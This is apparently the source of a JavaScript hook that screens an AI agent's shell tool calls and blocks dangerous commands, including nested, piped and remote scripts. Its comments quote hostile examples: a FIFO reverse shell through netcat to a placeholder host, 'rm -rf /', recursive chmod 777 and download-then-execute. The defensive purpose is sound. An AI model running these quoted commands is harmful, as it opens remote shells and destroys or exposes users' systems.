/**
 * shell-guard (pre-tool-call): blocks dangerous shell commands found in
 * `tool_input.command` / `cmd` / `script` (a string, or an argv array).
 * Exit 2 with the rule id on stderr; otherwise exit 0 and no output.
 * Quoted text is data: `echo "rm -rf /"` is allowed, while `bash -c "..."`,
 * `eval`, here-documents fed to a shell and `$(...)` are read and checked.
 */
import { block, hookFunction, invalid } from "hookbox:lib/hook_io.js";
import { readShell } from "hookbox:lib/shell_words.js";
import { baseName, effectiveArgv } from "./commands.js";
import {
  CONFIG,
  downloadedFiles,
  fileKey,
  findExecs,
  INPUT_VALUE,
  inputNames,
  readsCommands,
  RULES,
  scriptRun,
  xargsRuns,
} from "./rules.js";
import {
  containerCall,
  networkPrograms,
  opensShell,
  remoteScript,
  terminalScripts,
} from "./terminals.js";

const MAX_DEPTH = 6;
/**
 * Longest command text this guard checks. Longer ones are blocked: a command
 * that cannot be checked within the guard's fuel must not be let through.
 */
const MAX_COMMAND_CHARS = 4096;
const FIELDS = ["command", "cmd", "script"];
/** The fields of `tool_input` a shell tool's own working folder may be in (Gemini CLI's `dir_path`). */
const DIR_FIELDS = ["dir_path", "workdir", "directory", "cwd"];

/** Quotes one argv word for the shell reader. */
function quote(word) {
  return "'" + String(word).replace(/'/g, "'\\''") + "'";
}

/** The command texts in `tool_input`. */
function commandTexts(input) {
  if (typeof input === "string") return [input];
  if (input === null || typeof input !== "object") return [];
  const texts = [];
  for (const field of FIELDS) {
    const value = input[field];
    if (value === undefined || value === null) continue;
    if (typeof value === "string") texts.push(value);
    else if (Array.isArray(value) && value.every((w) => typeof w === "string")) {
      texts.push(value.map(quote).join(" "));
    } else invalid("tool_input." + field + " must be a string or an array of strings");
  }
  return texts;
}

/**
 * The folder the command starts in, or null when unknown: the tool's own
 * (`tool_input.dir_path`, ...; a relative one from the event's), else the
 * event's `work_dir` (the agent's working folder; Codex gives a call's
 * `workdir` there). A relative path in the command is read from it, so that
 * `rm -rf *` run in `/` or in a home directory is `rm -rf /` or `rm -rf ~`.
 */
function startDir(event) {
  const base = typeof event.work_dir === "string" && event.work_dir.startsWith("/")
    ? event.work_dir
    : null;
  const input = event.tool_input;
  if (input === null || typeof input !== "object" || Array.isArray(input)) return base;
  for (const field of DIR_FIELDS) {
    const value = input[field];
    if (value === undefined || value === null) continue;
    if (typeof value !== "string") invalid("tool_input." + field + " must be a string");
    if (value === "") continue;
    if (base === null || /^(?:\/|~)/.test(value)) return value;
    return base + "/" + value;
  }
  return base;
}

/** Commands that run a script given to them: the shells, and `.`/`source` in the running one. */
const RUNNERS = CONFIG.shells.concat([".", "source"]);
/** Commands whose `-c`/`--command` value a shell runs. */
const COMMAND_OPTION = ["su", "runuser", "script", "flock", "sg"];
/**
 * The commands checked wherever they appear in a command's words (a wrapper this guard does not
 * know runs them): those the `command` rules block only for what their arguments say, and those
 * that run a script. Not names dangerous alone (`mkfs`, `reboot`), which `grep -r mkfs docs/`
 * names as data.
 */
const RUN_NAMES = new Set(
  ["rm", "srm", "wipe", "find", "rsync", "dd", "tee", "chmod", "chown", "chgrp", "git", "eval"]
    .concat(["trap", "alias"])
    .concat(RUNNERS, COMMAND_OPTION, ["watch", "kill", "pkill", "killall", "systemctl"])
    .concat(["tmux", "screen", "tar", "zip", "7z", "7za", "7zz", "ssh"])
    .concat(["chattr", "setfacl"])
    .concat(CONFIG.diskWriters, CONFIG.diskEditors, CONFIG.copiers),
);
/** Most places in one command's words where another command is looked for. */
const MAX_RUN_WORDS = 16;

/** The value of option `-c`/`--command` in `args` (`-c V`, `-cV`, `--command=V`), or undefined. */
function commandOption(args) {
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    if (word === "-c" || word === "--command") return args[i + 1];
    if (word.startsWith("--command=")) return word.slice(10);
    if (/^-[A-Za-z]*c/.test(word) && !word.startsWith("--")) {
      const rest = word.slice(word.indexOf("c") + 1);
      return rest !== "" ? rest : args[i + 1];
    }
  }
  return undefined;
}

/**
 * The script `env -S STRING` (`--split-string`) runs: env splits STRING into the command's
 * words (the shell's quoting rules, near enough), followed by env's other arguments.
 */
function envSplit(raw) {
  const at = raw.findIndex((w) => baseName(w) === "env");
  if (at < 0) return null;
  for (let i = at + 1; i < raw.length && raw[i].startsWith("-"); i++) {
    let value;
    let rest = i + 1;
    if (raw[i] === "-S" || raw[i] === "--split-string") [value, rest] = [raw[i + 1], i + 2];
    else if (raw[i].startsWith("--split-string=")) value = raw[i].slice(15);
    else if (/^-[^-]*S/.test(raw[i])) value = raw[i].slice(raw[i].indexOf("S") + 1);
    if (value !== undefined) return [value].concat(raw.slice(rest).map(quote)).join(" ");
  }
  return null;
}

/**
 * What `argv` (echo, printf) prints, as scripts: its words joined by spaces, and for printf
 * (whose format places its arguments) also one word a line.
 */
function printed(argv) {
  if (argv[0] !== "echo" && argv[0] !== "printf") return [];
  const words = argv.slice(1).filter((w) => !/^-[neE]+$/.test(w))
    .map((w) => w.replace(/\\[ntr]/g, "\n"));
  if (words.length === 0) return [];
  const spaced = words.join(" ");
  return argv[0] === "printf" && words.length > 1 ? [spaced, words.join("\n")] : [spaced];
}

/**
 * Scripts a pipeline hands a shell (or `.`/`source`) as its input or as a file another command
 * prints: `echo 'cmd' | bash`, `printf ... | . /dev/stdin`, `bash <(echo 'cmd')`.
 */
function fedScripts(commands, argvs) {
  const scripts = [];
  let last = -1;
  const runs = (k) =>
    RUNNERS.includes(argvs[k][0]) || opensShell(argvs[k], commands[k].argv) ||
    RUNNERS.includes(baseName(containedCommand(argvs[k])[0] ?? ""));
  for (let k = 0; k < argvs.length; k++) if (runs(k)) last = k;
  for (let j = 0; j < last; j++) {
    scripts.push(...printed(argvs[j]));
    for (const r of commands[j].redirects) {
      if (/^<<[-<]?$/.test(r.op)) scripts.push(r.body || r.target);
    }
  }
  for (let k = 0; k <= last; k++) {
    if (!runs(k)) continue;
    const words = argvs[k].slice(1).concat(commands[k].redirects.map((r) => r.target));
    for (const word of words) {
      if (!word.startsWith("<(")) continue;
      const inner = word.slice(2, word.endsWith(")") ? -1 : undefined);
      for (const pipeline of readShell(inner, MAX_DEPTH).pipelines) {
        for (const c of pipeline) scripts.push(...printed(effectiveArgv(c.argv)));
      }
    }
  }
  return scripts;
}

/** The command an interactive container call hands what is piped into it (`docker exec -i c sh`). */
function containedCommand(argv) {
  const call = containerCall(argv);
  return call !== null && call.interactive ? call.command : [];
}

/**
 * Scripts a command hands to a shell: `sh -c TEXT`, `eval TEXT`, `bash <<EOF`, `. /dev/stdin
 * <<EOF`, `trap TEXT SIG`, `alias x=TEXT`, `su -c TEXT`.
 */
function innerScripts(argv, redirects) {
  if (argv[0] === "eval") return [argv.slice(argv[1] === "--" ? 2 : 1).join(" ")];
  if (argv[0] === "trap") {
    const code = argv.slice(1).find((w, i) => w !== "--" && !(i === 0 && /^-[lp]$/.test(w)));
    return code === undefined ? [] : [code];
  }
  if (argv[0] === "alias") {
    return argv.slice(1).map((w) => /^[^=]+=([\s\S]*)$/.exec(w)?.[1]).filter((v) => v);
  }
  if (argv[0] === "watch") {
    const words = [];
    for (let i = 1; i < argv.length; i++) {
      if (words.length === 0 && /^-/.test(argv[i])) {
        if (/^(?:-n|--interval|-d|--differences)$/.test(argv[i]) && /^\d/.test(argv[i + 1] ?? "")) {
          i++;
        }
      } else words.push(argv[i]);
    }
    return words.length > 0 ? [words.join(" ")] : [];
  }
  if (argv[0] === "tmux" || argv[0] === "screen") return terminalScripts(argv);
  const network = networkPrograms(argv);
  if (network.length > 0) return network;
  if (COMMAND_OPTION.includes(argv[0])) {
    const script = commandOption(argv.slice(1));
    return script === undefined ? [] : [script];
  }
  if (!RUNNERS.includes(argv[0])) return [];
  const scripts = redirects.filter((r) => /^<<[-<]?$/.test(r.op)).map((r) => r.body || r.target);
  for (let i = 1; i < argv.length && /^[-+]/.test(argv[i]); i++) {
    // An option cluster holding c (two tests: one regex for both backtracks
    // over a long cluster, quadratic in the engine's fuel).
    if (/^-[a-zA-Z]*$/.test(argv[i]) && argv[i].includes("c") && argv[i + 1] !== undefined) {
      scripts.push(argv[i + 1]);
    }
    if (argv[i] === "-o" || argv[i] === "+o") i++;
  }
  return scripts;
}

function brief(text) {
  const line = text.replace(/\s+/g, " ").trim();
  return line.length > 160 ? line.slice(0, 157) + "..." : line;
}

function describe({ argv, redirects }) {
  return argv.concat(redirects.map((r) => r.op + " " + r.target)).join(" ");
}

function hit(rule, evidence) {
  return { rule, evidence: brief(evidence) };
}

/**
 * The working folder after `argv` runs in `cwd` (null: unknown): `cd` or
 * `pushd` to an absolute or home path, or relative to a known one.
 */
function nextCwd(argv, cwd) {
  if (argv[0] !== "cd" && argv[0] !== "pushd") return cwd;
  const target = argv.slice(1).find((a) => !a.startsWith("-") || a === "-") ?? "~";
  if (target === "-") return null;
  if (/^(?:\/|~|\$HOME|\$\{HOME)/.test(target)) return target;
  return cwd === null ? null : cwd + "/" + target;
}

/** The first rule the pipeline `commands` (run as `argvs`) breaks, or null. */
function checkPipeline(commands, raw, argvs, depth, cwd, vars) {
  for (const rule of RULES) {
    if (
      (rule.pipeline && rule.pipeline(argvs, raw, cwd)) ||
      (rule.session && rule.session(argvs, commands))
    ) {
      return hit(
        rule,
        argvs.map((a) => a.join(" ")).join(" | "),
      );
    }
  }
  // What xargs runs on the paths piped to it (`echo / | xargs chmod -R 755`).
  const byXargs = xargsRuns(argvs, raw);
  if (byXargs === null) return hit(TOO_MANY_RUN, argvs.map((a) => a.join(" ")).join(" | "));
  for (const argv of byXargs) {
    const rule = brokenBy({ argv, redirects: [], cwd });
    if (rule) return hit(rule, argvs.map((a) => a.join(" ")).join(" | "));
  }
  for (let k = 0; k < commands.length; k++) {
    const command = { argv: argvs[k], redirects: commands[k].redirects, cwd };
    // The command, and what find runs on the folders it walks (`find / -exec chmod 777 {} +`).
    const byFind = findExecs(command.argv);
    if (byFind === null) return hit(TOO_MANY_RUN, describe(command));
    for (const inner of [command].concat(byFind.map((argv) => ({ argv, redirects: [], cwd })))) {
      const rule = brokenBy(inner);
      if (rule) return hit(rule, describe(command));
    }
    for (const rule of WORD_RULES) {
      if (rule.words(raw[k])) return hit(rule, raw[k].join(" "));
    }
    const scripts = innerScripts(command.argv, command.redirects);
    const data = dataScripts(raw[k]);
    const split = envSplit(raw[k]);
    if (split !== null) scripts.push(split);
    for (const script of data === null ? scripts : scripts.concat(data)) {
      const found = inspect(script, depth - 1, cwd, vars);
      if (found) return found;
    }
    const remote = checkRemote(command.argv, depth);
    if (remote) return remote;
    const found = checkInnerCommands(command, depth, cwd, vars);
    if (found) return found;
  }
  for (const script of fedScripts(commands, argvs)) {
    const found = inspect(script, depth - 1, cwd, vars);
    if (found) return found;
  }
  return null;
}

/**
 * The first rule broken by the script `argv` has another host run (`ssh HOST 'rm -rf ~'`): read
 * as its shell reads it, from its user's home directory, with none of this shell's variables.
 */
function checkRemote(argv, depth) {
  const script = remoteScript(argv);
  return script === null ? null : inspect(script, depth - 1, "~", new Map());
}

/**
 * The first rule broken by a command that `command`'s words run past its name, under a wrapper
 * this guard does not know (`nsenter -t 1 rm -rf /`, `flock /tmp/l rm -rf ~`): each word naming a
 * command a rule looks at starts a command of the words from there.
 */
function checkInnerCommands(command, depth, cwd, vars) {
  let looked = 0;
  for (let i = 1; i < command.argv.length; i++) {
    if (!RUN_NAMES.has(baseName(command.argv[i]))) continue;
    if (++looked > MAX_RUN_WORDS) {
      return hit({ id: "too-deep", about: "too many commands in one to check" }, describe(command));
    }
    const inner = { argv: effectiveArgv(command.argv.slice(i)), redirects: [], cwd };
    const rule = brokenBy(inner);
    if (rule) return hit(rule, describe(command));
    const remote = checkRemote(inner.argv, depth);
    if (remote) return remote;
    for (const script of innerScripts(inner.argv, [])) {
      const found = inspect(script, depth - 1, cwd, vars);
      if (found) return found;
    }
  }
  return null;
}

/**
 * Text in `words` (a command's words, quotes removed) that bash may run although it was quoted
 * data: a command substitution in an assignment's value (`X='$(cmd)'`, run when the value is
 * expanded as a prompt or evaluated as arithmetic with it in a subscript) and in a subscripted
 * name (`'a[$(cmd)]'`, which `test -v`, `printf -v`, `read`, `unset`, `let` and `declare`
 * evaluate); null when there is none.
 */
function dataScripts(words) {
  let scripts = null;
  for (const word of words) {
    if (!SUBSTITUTION.test(word)) continue;
    const value = ASSIGNED_VALUE.exec(word)?.[1];
    if (value !== undefined && SUBSTITUTION.test(value)) (scripts ??= []).push(value);
    const subscript = subscriptOf(word);
    if (subscript !== undefined) (scripts ??= []).push(subscript);
  }
  return scripts;
}
/** The rules that read a command's words as written. */
const WORD_RULES = RULES.filter((rule) => rule.words);
/** The rules that read one command as it runs. */
const COMMAND_RULES = RULES.filter((rule) => rule.command);
/** The first rule the command `{ argv, redirects, cwd }` breaks, or undefined. */
const brokenBy = (command) => COMMAND_RULES.find((rule) => rule.command(command));
/** Commands run by `find -exec` or `xargs` on more paths than the guard checks. */
const TOO_MANY_RUN = { id: "too-deep", about: "runs commands on more paths than the guard checks" };
/** The pipe-to-shell rule (undefined when CONFIG.disabled lists it). */
const PIPE_TO_SHELL = RULES.find((rule) => rule.id === "pipe-to-shell");
/** The value of an assignment word: `X=v`, `X+=v`, `a[i]=v` (also as `declare`'s arguments). */
const ASSIGNED_VALUE = /^[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?\+?=([\s\S]*)$/;
/**
 * The subscript of a variable name in `word` (`a[...]`) when it holds a command substitution, or
 * undefined. The first `[` after a name character to the last `]` holds every later one, so one
 * look (linear in the word) answers for all.
 */
function subscriptOf(word) {
  let at = word.indexOf("[");
  while (at === 0 || (at > 0 && !/[A-Za-z0-9_]/.test(word[at - 1]))) at = word.indexOf("[", at + 1);
  if (at < 0) return undefined;
  const end = word.lastIndexOf("]");
  if (end <= at) return undefined;
  const inner = word.slice(at + 1, end);
  return SUBSTITUTION.test(inner) ? inner : undefined;
}
/** A command substitution (or process substitution) in a word's text. */
const SUBSTITUTION = /\$\(|`|[<>]\(/;

const VARIABLE = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))/g;
const ASSIGNED = /^([A-Za-z_][A-Za-z0-9_]*)=([\s\S]*)$/;

/** `word` with `$NAME` and `${NAME}` replaced where an assignment before set NAME. */
function expandVars(word, vars) {
  if (vars.size === 0 || !word.includes("$")) return word;
  return word.replace(VARIABLE, (m, braced, bare) => vars.get(braced ?? bare) ?? m);
}

/**
 * The variables after the lone command `raw` (words) runs: `X=/` or
 * `export X=/` on its own sets X for the commands after (not `X=/ cmd`,
 * whose `$X` the shell expands before X is set).
 */
function nextVars(raw, argv, vars) {
  const words = raw[0] === "export" || raw[0] === "readonly" ? raw.slice(1) : raw;
  if (argv.length > 0 && words === raw) return vars;
  let out = vars;
  for (const word of words) {
    const assigned = ASSIGNED.exec(word);
    if (assigned === null) continue;
    out = new Map(out);
    out.set(assigned[1], assigned[2]);
  }
  return out;
}

const TYPED_SESSION = RULES.find((rule) => rule.id === "typed-session");

/** The FIFOs `mkfifo NAME...` or `mknod NAME p` makes, as written. */
function fifosMade(argv) {
  if (argv[0] === "mknod") {
    const operands = argv.slice(1).filter((w, i, all) =>
      !w.startsWith("-") && !/^(?:-m|--mode|-Z|--context)$/.test(all[i - 1] ?? "")
    );
    return operands[1] === "p" ? [operands[0]] : [];
  }
  if (argv[0] !== "mkfifo") return [];
  const names = [];
  for (let i = 1; i < argv.length; i++) {
    if (argv[i] === "-m" || argv[i] === "--mode" || argv[i] === "-Z" || argv[i] === "--context") {
      i++;
    } else if (!argv[i].startsWith("-") || argv[i] === "-") names.push(argv[i]);
  }
  return names;
}

/**
 * The typed-session rule when a shell or interpreter of the pipeline reads a FIFO the command
 * made before (`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST 4444 > /tmp/f`): what is
 * written into it later, from the network here, is what runs.
 */
function readsFifo(commands, argvs, cwd, fifos) {
  if (fifos === null || TYPED_SESSION === undefined) return null;
  const isFifo = (path) => fifos.has(fileKey(path, cwd));
  for (let k = 0; k < argvs.length; k++) {
    if (!readsCommands(argvs[k])) continue;
    const fromFifo = commands[k].redirects.some((r) =>
      (r.fd === undefined || r.fd === 0) && (r.op === "<" || r.op === "<>") && isFifo(r.target)
    ) ||
      argvs.slice(0, k).some((argv) =>
        argv[0] === "cat" && argv.slice(1).some(isFifo)
      );
    if (fromFifo) {
      return hit(TYPED_SESSION, describe({ argv: argvs[k], redirects: commands[k].redirects }));
    }
  }
  return null;
}

/** The pipe-to-shell rule when a command of the pipeline runs a file a download wrote before. */
function runsFetched(commands, raw, argvs, cwd, fetched) {
  if (fetched === null || PIPE_TO_SHELL === undefined) return null;
  for (let k = 0; k < argvs.length; k++) {
    if (argvs[k].length === 0) continue;
    // The program as written (`./setup.sh`: its argv names it `setup.sh`), wrappers peeled.
    const name = argvs[k][0];
    let at = raw[k].length - 1;
    while (at >= 0 && raw[k][at] !== name && !raw[k][at].endsWith("/" + name)) at--;
    const script = scriptRun(at === -1 ? argvs[k] : [raw[k][at]].concat(argvs[k].slice(1)));
    if (script !== null && fetched.has(fileKey(script, cwd))) {
      return hit(PIPE_TO_SHELL, describe({ argv: argvs[k], redirects: commands[k].redirects }));
    }
  }
  return null;
}

/**
 * The first rule `text` breaks, with the offending command, or null. `cwd`
 * is the working folder it starts in when known (the event's, or a `cd`
 * before it said; else null),
 * `vars` the variables assignments before it set; a `cd` or an assignment on
 * its own in `text` changes them for the commands after.
 */
function inspect(text, depth, cwd = null, vars = new Map()) {
  for (const rule of RULES) if (rule.text && rule.text(text)) return hit(rule, text);
  const { pipelines, tooDeep } = readShell(text, MAX_DEPTH);
  if (tooDeep || depth <= 0) {
    return hit({ id: "too-deep", about: "nested too deeply to check" }, text);
  }
  // Files a download before wrote (`curl -o f URL && bash f`), and FIFOs made before, by fileKey.
  let fetched = null;
  let fifos = null;
  for (const commands of pipelines) {
    const raw = commands.map((c) => c.argv.map((w) => expandVars(w, vars)));
    const argvs = raw.map(effectiveArgv);
    const found = checkPipeline(commands, raw, argvs, depth, cwd, vars) ??
      runsFetched(commands, raw, argvs, cwd, fetched) ?? readsFifo(commands, argvs, cwd, fifos);
    if (found) return found;
    for (let k = 0; k < argvs.length; k++) {
      const command = { argv: argvs[k], redirects: commands[k].redirects };
      for (const file of downloadedFiles(command)) (fetched ??= new Set()).add(fileKey(file, cwd));
      for (const file of fifosMade(argvs[k])) (fifos ??= new Set()).add(fileKey(file, cwd));
    }
    if (argvs.length === 1) {
      cwd = nextCwd(argvs[0], cwd);
      vars = nextVars(raw[0], argvs[0], vars);
    }
    // What `read` takes from a typed input stands for the input from now on (typed-session).
    const read = inputNames(argvs, commands);
    if (read.length > 0) {
      vars = new Map(vars);
      for (const name of read) vars.set(name, INPUT_VALUE);
    }
  }
  return null;
}

export default hookFunction("shell-guard", (event) => {
  const texts = commandTexts(event.tool_input);
  const cwd = texts.length > 0 ? startDir(event) : null;
  for (const text of texts) {
    if (text.length > MAX_COMMAND_CHARS) {
      return block(
        `shell-guard: command is ${text.length} characters, over the ${MAX_COMMAND_CHARS} this guard checks`,
      );
    }
    const found = inspect(text, MAX_DEPTH, cwd);
    if (found) {
      return block(
        `shell-guard: blocked by rule "${found.rule.id}" (${found.rule.about}): ${found.evidence}`,
      );
    }
  }
});
